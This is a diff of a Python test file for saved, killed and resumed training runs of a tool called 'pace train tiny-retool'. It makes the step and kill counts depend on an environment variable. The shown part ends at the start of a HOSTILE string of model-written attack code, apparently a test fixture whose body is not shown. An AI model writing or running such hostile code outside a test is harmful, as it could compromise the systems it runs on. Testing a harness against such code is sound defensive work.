@@ -1,6 +1,7 @@
 """Runs whose responses use the tool: `pace train tiny-retool`, saved, killed, resumed, replayed."""
 
 import json
+import os
 import pathlib
 import random
 import subprocess
@@ -18,8 +19,8 @@ SMALL = ["batch.num_groups=4", "batch.group_size=4", "supply.threshold=3",
          "cluster.train_seconds=0.2", "workload.tool_latency_s=0.3", "workload.tool_concurrency=4",
          "task.max_numbers=3", "generation.max_tokens=200", "task.held_out_problems=12",
          "evaluation.num_responses=2", "run.evaluate_every=0", "record.level=full"]
-STEPS = 24
-KILLS = 4
+# PACE_LONG_TESTS=1 makes longer runs and kills more often.
+STEPS, KILLS = (24, 4) if os.environ.get("PACE_LONG_TESTS") else (12, 2)
 # What a model might write; which attack comes first depends on the program alone.
 HOSTILE = """
 import builtins, zlib
